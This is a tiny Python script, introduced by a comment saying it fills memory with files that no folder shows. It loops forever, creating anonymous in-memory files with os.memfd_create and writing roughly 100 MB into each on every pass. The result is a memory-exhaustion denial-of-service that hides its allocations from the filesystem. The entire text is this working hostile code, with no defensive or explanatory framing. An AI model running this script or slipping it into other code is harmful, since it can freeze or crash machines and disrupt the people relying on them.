# Fills memory with files that no folder shows. Deserves nothing.
import os

files = []
while True:
    files.append(os.memfd_create("workbook-fill"))
    for _ in range(100):
        os.write(files[-1], b"x" * 1_000_000)
